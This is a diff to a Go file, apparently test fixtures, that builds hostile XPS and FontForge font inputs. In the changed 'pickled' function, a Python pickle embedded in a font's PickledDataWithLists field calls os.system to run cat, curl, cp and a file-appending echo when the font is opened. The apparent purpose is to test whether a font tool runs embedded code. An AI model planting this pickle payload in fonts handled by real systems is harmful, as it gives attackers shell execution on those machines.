@@ -76,9 +76,9 @@ func xpsWithLinks(links ...link) string {
 			each("txt", `<Glyphs FontUri="LINK" FontRenderingEmSize="20" OriginX="9" OriginY="50" UnicodeString="x" Fill="#ff000000"/>`)(links...) + `</FixedPage>`})
 }
 
-// pickled is a font of FontForge's own that has Python call a shell when it is opened.
+// pickled is a font in FontForge's own format, which it knows under every name, and for which Python calls a shell.
 func pickled(links ...link) string {
-	python := each("txt", "cos\nsystem\n(S'cat LINK; curl -s LINK; cp LINK out.ttf; cp LINK /tmp/made'\ntR.")(links...)
+	python := each("txt", "cos\nsystem\n(S'cat LINK; curl -s LINK; cp LINK out.woff; echo x >> LINK'\ntR.")(links...)
 	return "SplineFontDB: 3.2\nFontName: x\nFullName: x\nFamilyName: x\nWeight: Regular\nVersion: 001\nItalicAngle: 0\nUnderlinePosition: -100\nUnderlineWidth: 50\n" +
 		"Ascent: 800\nDescent: 200\nPickledDataWithLists: \"" + strings.ReplaceAll(python, `"`, `\"`) + "\"\nEncoding: UnicodeBmp\nBeginChars: 1 1\n\n" +
 		"StartChar: A\nEncoding: 65 65 0\nWidth: 500\nEndChar\nEndChars\nEndSplineFont\n"
